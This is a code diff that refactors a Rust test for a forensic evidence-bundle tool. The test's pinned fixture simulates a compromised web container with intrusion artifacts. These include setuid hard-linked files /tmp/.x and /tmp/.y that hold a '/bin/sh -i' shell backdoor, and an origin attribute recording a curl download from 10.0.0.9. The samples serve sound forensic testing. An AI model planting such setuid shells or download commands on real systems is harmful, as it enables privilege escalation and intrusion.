@@ -15,12 +15,11 @@
 //! compresses differently shows as the zstd pin alone.
 
 use exhibit_common::hashing::sha256_hex;
-use exhibit_common::records::{
-    xattr, ChangeKind as K, FileType, MemoryRegion, MountRecord, Source,
-};
+use exhibit_common::records::{xattr, ChangeKind as K, FileType, Source};
 use exhibit_common::text::ByteText;
 use exhibit_common::{verify, VerifyOptions, WriterOptions};
 use exhibit_tests::spec::{process, record, Spec};
+use serde_json::json;
 
 /// sha256 of the decompressed tar of [`pinned_spec`] signed with [`pinned_key`].
 const TAR_SHA256: &str = "55dcb8573ca27a2fcac744c677f7384b711af294e0752c3ea2cd8301538bf197";
@@ -51,16 +50,12 @@ fn pinned_spec() -> Spec {
     p.exe_size = Some(exe.len() as u64);
     p.exe_member = Some(exe_member.clone());
     p.anon_exec_maps = 1;
-    p.memory = vec![MemoryRegion {
-        start: 0x7f1c_2a00_0000,
-        end: 0x7f1c_2a00_1000,
-        perms: "r-xp".into(),
-        pathname: "".into(),
-        member: Some(region_member.to_string()),
-        sha256: Some(sha256_hex(&region)),
-        size: region.len() as u64,
-        error: None,
-    }];
+    p.memory = serde_json::from_value(json!([{
+        "start": 0x7f1c_2a00_0000u64, "end": 0x7f1c_2a00_1000u64, "perms": "r-xp",
+        "pathname": "", "member": region_member, "sha256": sha256_hex(&region),
+        "size": region.len(), "error": null,
+    }]))
+    .unwrap();
 
     let mut spec = Spec::default()
         .process(process(100, "/bin/httpd", &["httpd", "-f", "-p", "8080"]))
@@ -78,15 +73,11 @@ fn pinned_spec() -> Spec {
         .log("GET /cgi-bin/status.sh 200")
         .log("sh: \u{fffd}(");
     spec.logs[1].line = ByteText(vec![b's', b'h', b':', b' ', 0xc3, 0x28]);
-    spec.volumes = vec![MountRecord {
-        index: 0,
-        source: "tmpfs".into(),
-        destination: "/run/secrets".into(),
-        mount_type: "tmpfs".into(),
-        options: vec!["rw".into(), "size=65536k".into()],
-        read_only: false,
-        captured: "content".into(),
-    }];
+    spec.volumes = serde_json::from_value(json!([{
+        "index": 0, "source": "tmpfs", "destination": "/run/secrets", "type": "tmpfs",
+        "options": ["rw", "size=65536k"], "read_only": false, "captured": "content",
+    }]))
+    .unwrap();
 
     spec = spec.dir("/etc", K::Modified).deleted("/etc/motd");
     let mut cron = record(b"/etc/crontab", K::Modified, FileType::File, 0o644, 23);
@@ -98,31 +89,17 @@ fn pinned_spec() -> Spec {
     tmp.uid = 0;
     spec.files.push((tmp, vec![]));
     let body = b"#!/bin/sh\nexec /bin/sh -i\n".to_vec();
-    let mut x = record(
-        b"/tmp/.x",
-        K::Added,
-        FileType::File,
-        0o4755,
-        body.len() as u64,
-    );
-    x.uid = 33;
-    x.gid = 33;
-    x.nlink = 2;
-    x.hardlink_group = Some(1_048_577);
+    // A setuid file with an xattr, and a second name hard-linked to it.
+    let setuid = |path: &[u8]| {
+        let mut r = record(path, K::Added, FileType::File, 0o4755, body.len() as u64);
+        (r.uid, r.gid, r.nlink, r.hardlink_group) = (33, 33, 2, Some(1_048_577));
+        r
+    };
+    let mut x = setuid(b"/tmp/.x");
     x.xattrs = vec![xattr(b"user.origin", b"curl\0http://10.0.0.9/x")];
     spec.files.push((x, body.clone()));
-    let mut y = record(
-        b"/tmp/.y",
-        K::Added,
-        FileType::File,
-        0o4755,
-        body.len() as u64,
-    );
+    let mut y = setuid(b"/tmp/.y");
     y.stored_size = 0;
-    y.uid = 33;
-    y.gid = 33;
-    y.nlink = 2;
-    y.hardlink_group = Some(1_048_577);
     y.hardlink_to = Some(ByteText(b"rootfs/tmp/.x".to_vec()));
     spec.files.push((y, vec![]));
     let mut fifo = record(b"/tmp/ctl", K::Added, FileType::Fifo, 0o600, 0);
@@ -179,14 +156,10 @@ fn the_bundle_bytes_for_a_fixed_input_are_pinned() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("pinned.exhibit.tar.zst");
     std::fs::write(&path, &bytes).unwrap();
-    let verified = verify(
-        &path,
-        &VerifyOptions {
-            keys: vec![pinned_key().verifying_key()],
-            max_decompressed: None,
-        },
-    )
-    .unwrap_or_else(|e| panic!("the pinned bundle does not verify: {e}"));
+    let mut options = VerifyOptions::default();
+    options.keys.push(pinned_key().verifying_key());
+    let verified = verify(&path, &options)
+        .unwrap_or_else(|e| panic!("the pinned bundle does not verify: {e}"));
     assert_eq!(verified.manifest().counts.processes, 2);
 
     let tar = zstd::decode_all(&bytes[..]).unwrap();
